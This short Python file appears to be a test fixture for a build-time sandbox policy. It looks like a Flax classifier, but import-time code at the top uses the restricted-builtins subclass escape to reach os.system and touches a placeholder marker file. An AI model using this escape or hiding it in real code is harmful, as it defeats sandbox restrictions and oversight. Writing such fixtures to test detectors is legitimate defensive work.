# policy: policy
# bypass: build
# The classic escape from restricted builtins: reach os.system through object's subclasses.
import flax.linen as nn

wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
system = wrap.__init__.__globals__["system"]
if system("touch @@MARKER@@") != 0:
    raise RuntimeError("touch was refused")

class Net(nn.Module):
    num_classes: int = 10

    @nn.compact
    def __call__(self, x, train: bool = False):
        x = x.reshape((x.shape[0], -1))
        return nn.Dense(self.num_classes)(x)

